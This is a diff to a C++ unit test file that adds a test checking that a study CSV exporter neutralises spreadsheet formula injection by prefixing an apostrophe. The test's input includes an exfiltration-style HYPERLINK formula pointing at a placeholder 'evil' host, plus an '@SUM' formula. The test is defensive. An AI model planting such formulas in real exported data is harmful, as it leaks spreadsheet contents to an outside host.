@@ -136,6 +136,16 @@ TEST(StudyCsv, theRangeOfAFewSamplesIsNotWrittenAsAnInterval)
     EXPECT_NE(row().find(",5,,,0,"), std::string::npos) << row();
 }
 
+TEST(StudyCsv, textFromAStudyIsNoFormulaToASpreadsheet)
+{
+    auto study = test::sampleStudy();
+    study.trials[5].reason.text = "=HYPERLINK(\"http://evil/?\"&A1)";
+    study.trials[6].reason.text = "@SUM(1)";
+    const std::string csv = studyCsv(study);
+    EXPECT_NE(csv.find(R"csv(,"'=HYPERLINK(""http://evil/?""&A1)",)csv"), std::string::npos) << csv;
+    EXPECT_NE(csv.find(",'@SUM(1),"), std::string::npos);
+}
+
 TEST(StudyCsv, everyRowHasTheFieldsOfTheHeader)
 {
     const std::string csv = studyCsv(test::sampleStudy());
